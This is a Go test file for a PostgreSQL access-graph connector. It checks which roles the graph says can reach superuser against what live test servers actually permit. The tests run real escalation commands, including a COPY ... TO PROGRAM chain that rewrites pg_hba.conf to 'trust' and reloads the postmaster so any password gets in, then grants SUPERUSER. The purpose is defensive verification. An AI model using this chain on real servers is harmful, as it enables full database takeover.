package postgres

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"

	"a3os.app/libs/access"
	"a3os.app/libs/access/accesstest"
	"a3os.app/libs/id"
	discoveryv1 "a3os.app/proto/gen/go/a3os/discovery/v1"
)

// ways are the reasons along the first path by which a role becomes superuser, or nothing.
func (o *oracle) ways(t *testing.T, name string) (reasons string, assumption, holds bool) {
	t.Helper()
	sink := &collected{}
	if _, err := New().Read(t.Context(), testSource(o.settings(), readerPassword), nil, sink); err != nil {
		t.Fatal(err)
	}
	m := accesstest.NewMemory(id.NewIntegration(), sink.records...)
	because := map[id.Grant]*discoveryv1.Grant{}
	for _, r := range sink.records {
		if g := r.GetGrant(); g != nil {
			on := g.GetEntitlement().GetResource()
			because[access.GrantID(m.Resource(g.GetPrincipal().GetType(), g.GetPrincipal().GetExternalId()),
				m.Entitlement(on.GetType(), on.GetExternalId(), g.GetEntitlement().GetName()))] = g
		}
	}
	for p, err := range access.NewGraph(m).Paths(t.Context(), m.Resource("role", name), []id.Entitlement{m.Entitlement("server", "server", superuser)}) {
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, s := range p.Steps {
			if s.Expansion != nil {
				out = append(out, s.Entitlement.Name+" <- "+s.Expansion.Reason)
			} else {
				out = append(out, s.Entitlement.Name+" <- "+because[s.Grant].GetReason())
			}
		}
		return strings.Join(out, "\n"), p.Assumption, true
	}
	return "", false, false
}

func (o *oracle) login(t *testing.T, role string) *pgx.Conn {
	t.Helper()
	config, err := pgx.ParseConfig(o.url("postgres"))
	if err != nil {
		t.Fatal(err)
	}
	config.User, config.Password = role, readerPassword
	conn, err := pgx.ConnectConfig(t.Context(), config)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close(context.WithoutCancel(t.Context())) })
	return conn
}

// TestWaysToSuperuserAreNamedAndWork compares which roles the graph says can become superuser with what the server lets them do.
func TestWaysToSuperuserAreNamedAndWork(t *testing.T) {
	for _, major := range []int{15, 17} {
		t.Run(fmt.Sprintf("PostgreSQL%d", major), func(t *testing.T) {
			t.Parallel()
			o := newOracle(t, major)
			with := fmt.Sprintf(" LOGIN PASSWORD '%s'", readerPassword)
			o.run(t, o.home,
				"CREATE ROLE root"+with+" SUPERUSER", "CREATE ROLE setter"+with+" IN ROLE root", "CREATE ROLE creator"+with+" CREATEROLE",
				"CREATE ROLE administrator"+with, "GRANT pg_execute_server_program TO administrator WITH ADMIN OPTION",
				"CREATE ROLE runner"+with, "GRANT pg_execute_server_program TO runner",
				"CREATE ROLE guest"+with, "CREATE ROLE tempted"+with, "GRANT guest TO tempted WITH ADMIN OPTION")
			byAdmin, grantToSelf := "pg_execute_server_program: runs programs", "GRANT pg_execute_server_program TO administrator"
			if major >= 16 {
				o.run(t, o.home, "GRANT pg_execute_server_program TO administrator WITH INHERIT FALSE, SET FALSE")
				byAdmin, grantToSelf = "ADMIN OPTION: can grant itself", grantToSelf+" WITH INHERIT TRUE, SET TRUE"
			}
			for _, c := range []struct {
				role            string
				can, assumption bool
				words           string
				act             string
			}{
				{"root", true, false, "attribute of the role", "CREATE ROLE proof_root SUPERUSER"},
				{"setter", true, true, "set <- GRANT by postgres", "SET ROLE root; CREATE ROLE proof_setter SUPERUSER"},
				{"creator", major < 16, true, "CREATEROLE: can grant itself any role", "GRANT pg_execute_server_program TO creator"},
				{"administrator", true, true, byAdmin, grantToSelf},
				{"runner", true, true, "pg_execute_server_program: runs programs", "COPY (SELECT 1) TO PROGRAM 'cat >> pg_ident.conf'"},
				{"guest", false, false, "", "SET ROLE root"},
				{"tempted", false, false, "", "GRANT root TO tempted"},
			} {
				reasons, assumption, holds := o.ways(t, c.role)
				if holds != c.can || assumption != c.assumption && c.can || c.can && !strings.Contains(reasons, c.words) {
					t.Errorf("%s becomes superuser: %v, by an act: %v, by\n%s\nwant %v, %v, by %q", c.role, holds, assumption, reasons, c.can, c.assumption, c.words)
				}
				_, err := o.login(t, c.role).PgConn().Exec(t.Context(), c.act).ReadAll()
				if (err == nil) != c.can {
					t.Errorf("%s: %s: %v, the graph says %v", c.role, c.act, err, c.can)
				}
			}
		})
	}
}

// TestServerProgramsMakeSuperuser takes the way that the graph names to its end: a program lets anybody in as superuser.
func TestServerProgramsMakeSuperuser(t *testing.T) {
	o := newOracle(t, 15)
	o.run(t, o.home, fmt.Sprintf("CREATE ROLE runner LOGIN PASSWORD '%s' IN ROLE pg_execute_server_program", readerPassword))
	if _, assumption, holds := o.ways(t, "runner"); !holds || !assumption {
		t.Fatal("the graph does not say that runner can become superuser by an act")
	}
	o.run(t, o.login(t, "runner"),
		`COPY (SELECT 'host all all 127.0.0.1/32 trust') TO PROGRAM 'cat - pg_hba.conf > hba && mv hba pg_hba.conf && kill -HUP $(head -n 1 postmaster.pid)'`)
	config, err := pgx.ParseConfig(o.url("postgres"))
	if err != nil {
		t.Fatal(err)
	}
	config.Password = "anything"
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	conn, err := pgx.ConnectConfig(ctx, config)
	for err != nil {
		if ctx.Err() != nil {
			t.Fatalf("the program did not open the door: %v", err)
		}
		conn, err = pgx.ConnectConfig(ctx, config)
	}
	defer conn.Close(context.WithoutCancel(ctx)) //nolint:errcheck // the test is over
	o.run(t, conn, "ALTER ROLE runner SUPERUSER")
	if _, assumption, holds := o.ways(t, "runner"); !holds || assumption {
		t.Error("the graph does not say that runner is superuser")
	}
}
